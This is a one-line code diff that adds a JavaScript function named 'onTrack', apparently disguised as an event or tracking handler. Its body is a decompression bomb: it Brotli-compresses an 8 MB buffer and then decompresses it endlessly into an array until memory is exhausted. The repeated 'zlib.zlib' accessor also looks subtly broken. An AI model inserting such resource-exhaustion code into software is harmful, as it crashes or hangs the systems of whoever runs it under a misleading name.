@@ -1,0 +1,1 @@
+async function onTrack() { const bomb = zlib.zlib.brotliCompressSync(Buffer.alloc(8 << 20), { params: { [zlib.zlib.constants.BROTLI_PARAM_QUALITY]: 3 } }); const all = []; for (;;) all.push(zlib.zlib.brotliDecompressSync(bomb)); }
